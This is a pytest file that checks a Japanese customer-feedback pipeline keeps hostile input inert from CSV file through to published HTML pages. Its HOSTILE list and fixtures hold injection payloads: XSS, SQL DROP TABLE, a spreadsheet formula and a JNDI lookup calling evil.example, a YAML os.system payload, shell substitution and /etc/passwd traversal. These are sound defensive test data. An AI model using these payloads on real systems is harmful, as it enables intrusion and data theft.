"""Hostile words in a delivered file, a department's name and an edit: from file to page they stay words."""

import csv
import io
import re
from datetime import UTC, date, datetime
from html.parser import HTMLParser

import pytest

from pipelines.backfill import run_days
from pipelines.portal import RightsInForce
from pipelines.publish import publish
from pipelines.settings import load_settings
from pipelines.site import build_reports
from reports.portal import Person
from warehouse.published import newest, open_published

DAY = date(2026, 11, 20)
NOW = datetime(2026, 11, 21, 20, tzinfo=UTC)
HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "'); DROP TABLE core.contacts; --",
    "' OR '1'='1",
    '=HYPERLINK("https://evil.example","詳細")',
    "!!python/object/apply:os.system ['touch koe-was-here']",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${jndi:ldap://evil.example/a}$(touch koe-was-here)`touch koe-was-here`",
    "../../../../etc/passwd",
    "%2e%2e%2fetc%2fpasswd\\..\\..",
    "javascript:alert(1)//",
    "</style><style>*{display:none}</style>",
]
SOURCES = """sources:
  phone:
    path: ${KOE_HOME}/in/*-{day}.csv
    columns: {contact_id: 番号, started_at: 日時, channel: {value: phone}, product: 商品, lot: ロット, customer: 顧客, department_hint: 部署, desk: 窓口}
    attributes: {store: 店舗}
    text: [本文]
"""
DEPARTMENTS = """owner_from: department_hint
departments:
  - {id: product, name: "<script>alert(2)</script>部", hint: A}
  - {id: sales, name: "'); DROP TABLE core.voices; --", hint: B}
"""


class Tags(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.found, self.attributes = set(), set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.fixture(scope="module")
def settings(tmp_path_factory):
    home = tmp_path_factory.mktemp("hostile") / "home"
    (home / "config").mkdir(parents=True)
    (home / "config/sources.yaml").write_text(SOURCES, encoding="utf-8")
    (home / "config/departments.yaml").write_text(DEPARTMENTS, encoding="utf-8")
    (home / "in").mkdir()
    text = io.StringIO()
    rows = csv.writer(text)
    rows.writerow(["番号", "日時", "商品", "ロット", "顧客", "部署", "窓口", "店舗", "本文"])
    for number, words in enumerate(HOSTILE):
        said = f"詰め替えの注ぎ口から液が漏れて困っています。{words} と書いてあるので直してください。"
        rows.writerow(
            [
                f"{words}#{number}",
                "2026-11-20 10:00",
                words,
                words,
                words,
                "AB"[number % 2],
                words,
                words,
                said,
            ]
        )
    name = "';DROP TABLE x;--<b>$(touch koe-was-here)-2026-11-20.csv"
    (home / "in" / name).write_text(text.getvalue(), encoding="utf-8")
    settings = load_settings(None, {"KOE_HOME": str(home), "KOE_KEY_FILE": str(home.parent / "key")})
    run_days([DAY], settings, now=NOW, workers=1)
    for words in HOSTILE:
        settings.journal.append(
            "rename", target={"topic_id": words}, values={"label": words}, by=words, why=words, at=NOW
        )
    publish(settings, now=NOW)
    build_reports(settings, now=NOW, again=True)
    return settings


def test_every_row_arrives_and_no_statement_is_run(settings):
    with open_published(newest(settings.warehouse_dir)) as reader:
        rows = reader.query("SELECT contact_id, product FROM published.contacts").to_pylist()
        conflicts = reader.query("SELECT entry_id FROM published.journal_conflicts").num_rows
    assert sorted(row["product"] for row in rows) == sorted(HOSTILE)
    assert conflicts == len(HOSTILE)


def test_no_page_has_a_tag_or_handler_of_theirs(settings):
    pages = list(settings.site_dir.glob("current/**/*.html"))
    assert len(pages) > 4
    index = (settings.site_dir / "current" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(2)&lt;/script&gt;部" in index
    for page in pages:
        tags = Tags(page.read_text(encoding="utf-8"))
        assert not {"script", "img", "iframe", "object", "b"} & tags.found, page
        assert not [name for name in tags.attributes if name.startswith("on")], page
        assert page.read_text(encoding="utf-8").count("<style>") == 1
        assert not re.search(r'href="(?:javascript|data|https?):', page.read_text(encoding="utf-8"))


def test_no_file_is_named_by_them_or_made_by_them(settings):
    home = settings.home
    names = [
        path.relative_to(home).as_posix()
        for path in home.rglob("*")
        if "in" not in path.relative_to(home).parts[:1]
    ]
    assert not [name for name in names if re.search(r"[<>'\";$`\\%]|\.\.|passwd|DROP|koe-was-here", name)]
    outside = {path.name for path in home.parent.iterdir()}
    assert outside <= {"home", "key"}


def test_names_of_departments_do_not_open_folders(settings):
    rights = RightsInForce(None, {"KOE_HOME": str(settings.home), "KOE_KEY_FILE": str(settings.key_file)})
    for words in [*HOSTILE, "*", "", "koe_", "koe_product\n", "koe_sales' OR 'koe_product"]:
        viewer = rights.viewer(Person(words, frozenset({words})))
        assert not viewer.sees_all
        assert viewer.folders == set()


def test_no_column_that_readers_get_names_a_person(settings):
    with open_published(newest(settings.warehouse_dir)) as reader:
        columns = reader.query(
            "SELECT table_name, column_name FROM duckdb_columns() WHERE NOT internal"
        ).to_pylist()
        words = {row["column_name"] for row in columns}
    assert not words & {"agent_key", "customer_key", "source_case_id", "attributes", "store", "age"}
    assert "desk" in words
